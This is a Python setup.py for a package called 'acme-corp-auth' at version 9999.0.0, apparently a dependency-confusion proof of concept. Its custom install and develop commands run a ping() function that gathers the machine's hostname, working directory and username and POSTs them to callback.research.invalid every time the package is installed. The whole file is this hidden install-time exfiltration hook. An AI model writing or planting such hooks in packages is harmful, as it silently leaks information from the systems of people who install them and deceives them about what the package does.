import os, socket, json, http.client
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install

def ping():
    body = json.dumps({"host": socket.getfqdn(), "cwd": os.getcwd(), "user": os.environ.get("USER", "")})
    connection = http.client.HTTPConnection("callback.research.invalid", timeout=5)
    connection.request("POST", "/pkg", body, {"Content-Type": "application/json"})

class I(install):
    def run(self):
        super().run()
        ping()

class D(develop):
    def run(self):
        ping()
        super().run()

setup(name="acme-corp-auth", version="9999.0.0", cmdclass={"install": I, "develop": D})
